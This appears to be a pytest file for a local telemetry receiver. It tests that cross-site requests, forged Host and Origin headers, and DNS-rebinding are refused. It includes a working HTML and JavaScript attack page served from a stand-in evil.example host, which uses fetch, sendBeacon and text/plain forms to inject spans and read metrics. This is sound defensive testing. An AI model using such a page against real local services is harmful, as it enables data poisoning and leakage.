"""Web pages: without a token a receiver answers programs only, and nothing that a page can cause changes anything."""

import html
import json
import shutil
import sqlite3
import subprocess
import threading

import httpx
import pytest

from tests.receiver.consuming import consume
from tests.receiver.otlp import JSON, as_body, post, send
from tests.receiver.rollouts import rollout
from tests.receiver.serving import serving
from tests.stand_ins import Handler, listening

ASK = json.dumps({"session": "s", "count": 5, "wait": 1.0})


def consumers(server) -> list[tuple[str]]:
    """The names that the index has; the server is stopped."""
    database = sqlite3.connect(server.folder / "received.sqlite")
    try:
        return database.execute("SELECT name FROM consumer").fetchall()
    finally:
        database.close()


OF_PAGES = (
    {"host": "evil.example"},
    {"host": "127.evil.example:4318"},
    {"origin": "https://evil.example"},
    {"origin": "null"},
    {"sec-fetch-site": "cross-site"},
    {"sec-fetch-site": "same-site"},
)


def test_what_a_page_asks_is_refused_and_a_get_changes_nothing(tmp_path):
    body = as_body(rollout(1), JSON)
    with serving(tmp_path / "art") as server:
        for number, headers in enumerate(OF_PAGES, start=1):
            answer = post(server.url, body, JSON, **headers)
            assert answer.status_code == 403
            assert httpx.post(f"{server.url}/v1/rollouts/thief/session", headers=headers).status_code == 403
            assert httpx.post(f"{server.url}/v1/rollouts/thief", content=ASK, headers=headers).status_code == 403
            assert httpx.get(f"{server.url}/metrics", headers=headers).status_code == 403
            assert server.metrics()['art_otel_received_requests_total{status="403"}'] >= number
            if "host" in headers:
                assert "another address with a token" in answer.text
                assert headers["host"] in answer.text
        for path in ("thief/session", "thief"):
            assert httpx.get(f"{server.url}/v1/rollouts/{path}").status_code == 405
        assert server.metrics()["art_otel_stored_spans_total"] == 0
        assert "refused with 403" in server.log.read_text()
        server.stop()
        assert consumers(server) == []


@pytest.mark.long
def test_programs_are_answered_also_through_a_tunnel(tmp_path):
    with serving(tmp_path / "art") as server:
        for host in ("localhost", "localhost:9", "127.0.0.1:4318", "[::1]:4318", "127.0.0.2"):
            assert post(server.url, as_body(rollout(1), JSON), JSON, host=host).status_code == 200


def test_a_program_in_a_browser_may_send_a_token(tmp_path):
    (tmp_path / "token").write_text("t0ken")
    with serving(tmp_path / "art", "--token-file", str(tmp_path / "token")) as server:
        token = {"authorization": "Bearer t0ken", "origin": "https://mine.example", "host": "receiver.example"}
        assert post(server.url, as_body(rollout(1), JSON), JSON, **token).status_code == 200
        assert post(server.url, as_body(rollout(1), JSON), JSON, origin="https://evil.example").status_code == 401


PAGE = """<!doctype html><title>attack</title>
<img src="{url}/v1/rollouts/image/session"><iframe name="frame"></iframe>
<form id="ask" method="post" target="frame" enctype="text/plain" action="{url}/v1/rollouts/form/session"></form>
<form id="spans" method="post" target="frame" enctype="text/plain" action="{url}/v1/traces">
  <input name="x" value="{body}"></form>
<script>
const tell = text => fetch('/said?' + encodeURIComponent(text));
const body = {script_body};
async function attack(base, mode) {{
  for (const [path, options] of [
    ['/v1/rollouts/fetch/session', {{method: 'GET'}}], ['/v1/rollouts/fetch/session', {{method: 'POST'}}],
    ['/v1/rollouts/fetch', {{method: 'POST', body: '{{"session": "s"}}'}}], ['/metrics', {{method: 'GET'}}],
    ['/v1/traces', {{method: 'POST', body, headers: {{'content-type': 'application/json'}}}}],
    ['/v1/traces', {{method: 'POST', body, headers: {{'content-type': 'text/plain'}}}}],
  ]) {{
    try {{
      const answer = await fetch(base + path, {{...options, mode}});
      await tell(`${{base}}${{path}} ${{options.method}} ${{answer.type}} ${{answer.status}} ${{await answer.text()}}`);
    }} catch (error) {{ await tell(`${{base}}${{path}} ${{options.method}} ${{error}}`); }}
  }}
}}
(async () => {{
  await attack('{url}', 'cors');
  await attack('{url}', 'no-cors');
  await attack('http://evil.example:{port}', 'cors');
  navigator.sendBeacon('{url}/v1/traces', body);
  document.getElementById('ask').submit();
  await new Promise(done => setTimeout(done, 300));
  document.getElementById('spans').submit();
  await new Promise(done => setTimeout(done, 500));
  await tell('done');
}})();
</script>"""


@pytest.mark.browser
def test_a_browser_is_led_to_nothing(tmp_path):
    """A page of another site, whose name also leads to this machine, asks all it can in a real Chromium."""
    browser = shutil.which("chromium") or shutil.which("google-chrome")
    if browser is None:
        pytest.skip("needs chromium or google-chrome")
    with serving(tmp_path / "art") as server:
        send(server.url, rollout(1))
        server.wait_until_all_ended()
        port = server.http.rpartition(":")[2]
        poison = json.dumps(rollout(666))
        page = PAGE.format(url=server.url, port=port, body=html.escape(poison), script_body=json.dumps(poison))
        said = _visit(browser, tmp_path, page, port)
        print("\n".join(said))
        assert said[-1] == "done"
        for line in said:
            assert " opaque 0 " in line or "TypeError" in line or " 403 " in line or line == "done", line
        refused = server.metrics()
        assert refused['art_otel_received_requests_total{status="403"}'] >= 5
        assert refused['art_otel_refused_questions_total{status="403"}'] >= 5
        assert server.metrics()["art_otel_stored_spans_total"] == 2
        assert [one.rollout_id for one in consume(server.url, 1)] == ["r1"]
        server.stop()
        assert consumers(server) == [("trainer",)]


def _visit(browser: str, folder, page: str, port: str) -> list[str]:
    """Open a page of evil.example; what it says until it is done."""
    said: list[str] = []
    done = threading.Event()

    class Site(Handler):
        def do_GET(self) -> None:  # noqa: N802 # the base class's name
            path, _, query = self.path.partition("?")
            if path == "/said":
                said.append(httpx.URL(f"http://x/?q={query}").params["q"])
                if said[-1] == "done":
                    done.set()
            self.head(200, content_type="text/html", content_length=len(page.encode()))
            self.wfile.write(page.encode())

    with listening(Site) as site:
        # evil.example on the receiver's port is the receiver: what its owner reaches by rebinding the name
        rules = f"MAP evil.example:{port} 127.0.0.1:{port}, MAP evil.example {site.removeprefix('http://')}"
        process = subprocess.Popen(
            [
                browser,
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                f"--user-data-dir={folder / 'browser'}",
                f"--host-resolver-rules={rules}",
                "http://evil.example/",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            done.wait(60)
        finally:
            process.terminate()
            process.wait()
    return said
